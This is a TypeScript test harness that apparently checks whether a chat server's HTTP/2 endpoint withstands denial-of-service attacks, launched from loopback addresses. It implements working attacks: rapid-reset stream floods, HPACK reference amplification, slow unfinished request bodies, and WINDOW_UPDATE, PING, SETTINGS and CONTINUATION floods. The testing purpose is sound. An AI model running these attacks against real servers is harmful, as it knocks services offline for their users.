/**
 * Those who attack, in a process of their own, so that what they cost themselves is not counted as the server's:
 * `attackers.ts ATTACK PORT`. Each address of the loopback stands for a person. Prints one line of JSON at the end.
 */
import { once } from "node:events";
import { connect, type Socket } from "node:net";
import { setTimeout as delay } from "node:timers/promises";
import {
  dataFrame,
  frame,
  headersFrame,
  indexed,
  NEWEST,
  post,
  RawHttp2,
  rstFrame,
  windowUpdateFrame,
} from "../support/raw-http2.js";

const CONTINUATION = 9;
const SETTINGS = 4;
const PING = 6;
const END_HEADERS = 4;

const CHAT = "/parlance.v1.ChatService";
/** How long an attack is kept up once it stands. */
const HOLD_MS = 3_000;
const streams = (count: number, from = 0) => Array.from({ length: count }, (_, i) => 1 + 2 * (from + i));
/** One hostile address, and others. */
const address = (i: number) => `127.0.1.${1 + (i % 4)}`;

async function sessions(port: number, count: number): Promise<RawHttp2[]> {
  const open: RawHttp2[] = [];
  for (let i = 0; i < count; i += 50)
    open.push(
      ...(await Promise.all(
        Array.from({ length: Math.min(50, count - i) }, (_, j) => RawHttp2.open(port, address(i + j))),
      )),
    );
  return open;
}

async function openHeaders(port: number, rpc: string, block: Buffer, later = block): Promise<object> {
  const peers = await sessions(port, 500);
  for (const peer of peers) {
    const [first, ...rest] = streams(100);
    peer.send(headersFrame(first!, block), ...rest.map((stream) => headersFrame(stream, later)));
    await delay(2);
  }
  await delay(HOLD_MS);
  const resets = peers.reduce((sum, one) => sum + one.resets.size, 0);
  return { rpc, sessionsLeft: peers.filter(({ over }) => !over).length, resets };
}

function byReference(rpc: string, references: number): [Buffer, Buffer] {
  const plain = post(`${CHAT}/${rpc}`);
  const repeated = Array<Buffer>(references - 1).fill(NEWEST);
  return [
    Buffer.concat([plain, indexed("x-long", "x".repeat(3_900)), ...repeated]),
    Buffer.concat([plain, NEWEST, ...repeated]),
  ];
}

async function flood(port: number, bytes: Buffer): Promise<object> {
  const peer = (await sessions(port, 1))[0]!;
  const since = performance.now();
  while (!peer.over && performance.now() - since < HOLD_MS) {
    if (!peer.socket.write(bytes))
      await Promise.race([
        once(peer.socket, "drain").catch(() => 0),
        once(peer.socket, "close").catch(() => 0),
        delay(200),
      ]);
    else await delay(1);
  }
  return { endedAfterMs: peer.over ? Math.round(performance.now() - since) : null };
}

async function plainSocket(port: number, i: number): Promise<Socket> {
  const socket = connect({ host: "127.0.0.1", port, localAddress: address(i) });
  socket.on("error", () => undefined);
  socket.resume();
  await Promise.race([once(socket, "connect"), once(socket, "close")]).catch(() => undefined);
  return socket;
}

async function slowBodies(port: number, rpc: string): Promise<object> {
  const length = 61_000;
  const head = `POST ${CHAT}/${rpc} HTTP/1.1\r\nhost: a\r\ncontent-type: application/json\r\ncontent-length: ${length}\r\n\r\n`;
  const all = Buffer.concat([Buffer.from(head), Buffer.alloc(length - 1, " ")]);
  const open: Socket[] = [];
  for (let i = 0; i < 3_000; i += 100) {
    const some = await Promise.all(Array.from({ length: 100 }, (_, j) => plainSocket(port, i + j)));
    for (const socket of some) if (!socket.destroyed) socket.write(all);
    open.push(...some);
  }
  await delay(HOLD_MS);
  return {
    rpc,
    connectionsLeft: open.filter(({ destroyed, readableEnded }) => !destroyed && !readableEnded).length,
  };
}

const attacks: Record<string, (port: number) => Promise<object>> = {
  "open HEADERS of an RPC for members": (port) => openHeaders(port, "Broadcast", post(`${CHAT}/Broadcast`)),
  "open HEADERS of an open RPC": (port) => openHeaders(port, "Login", post(`${CHAT}/Login`)),
  "open HEADERS by 14 references": (port) => openHeaders(port, "Login", ...byReference("Login", 14)),
  "open HEADERS by 3 references": (port) => openHeaders(port, "Login", ...byReference("Login", 3)),
  async "open HEADERS with 600 bytes of DATA"(port) {
    const peers = await sessions(port, 500);
    const block = post(`${CHAT}/Login`);
    for (const peer of peers) {
      peer.send(
        ...streams(100).flatMap((stream) => [
          headersFrame(stream, block),
          dataFrame(stream, Buffer.alloc(600, " ")),
        ]),
      );
      await delay(2);
    }
    await delay(HOLD_MS);
    return { sessionsLeft: peers.filter(({ over }) => !over).length };
  },
  async "1,000 resets on each of 50 connections"(port) {
    const block = post(`${CHAT}/Broadcast`);
    const pairs = streams(1_000).flatMap((stream) => [headersFrame(stream, block), rstFrame(stream)]);
    let over = 0;
    for (let i = 0; i < 50; i++) {
      const peer = await RawHttp2.open(port, address(i));
      peer.send(...pairs);
      await delay(100);
      if (peer.over) over++;
      peer.close();
    }
    return { endedAtOnce: over };
  },
  "bodies short of a byte, for members": (port) => slowBodies(port, "Broadcast"),
  "bodies short of a byte, open": (port) => slowBodies(port, "Login"),
  async "600 idle sessions"(port) {
    const peers = await sessions(port, 600);
    process.stdout.write("ready\n");
    await delay(HOLD_MS);
    return { sessionsLeft: peers.filter(({ over }) => !over).length };
  },
  "WINDOW_UPDATE flood": (port) =>
    flood(port, Buffer.concat(Array.from({ length: 20_000 }, () => windowUpdateFrame(0, 1)))),
  "PING flood": (port) =>
    flood(port, Buffer.concat(Array.from({ length: 10_000 }, () => frame(PING, 0, 0, Buffer.alloc(8))))),
  "SETTINGS flood": (port) =>
    flood(port, Buffer.concat(Array.from({ length: 10_000 }, () => frame(SETTINGS, 0, 0, Buffer.alloc(0))))),
  "CONTINUATION flood": async (port) => {
    const begun = frame(1, 0, 1, post(`${CHAT}/Login`));
    const more = Array.from({ length: 10_000 }, () => frame(CONTINUATION, 0, 1, Buffer.of(0x82)));
    const last = frame(CONTINUATION, END_HEADERS, 1, Buffer.alloc(0));
    return flood(port, Buffer.concat([begun, ...more, last]));
  },
};

const [, , name = "", port] = process.argv;
const attack = attacks[name];
if (!attack) throw new Error(`no attack ${JSON.stringify(name)}`);
process.stdout.write(`${JSON.stringify(await attack(Number(port)))}\n`);
process.exit();
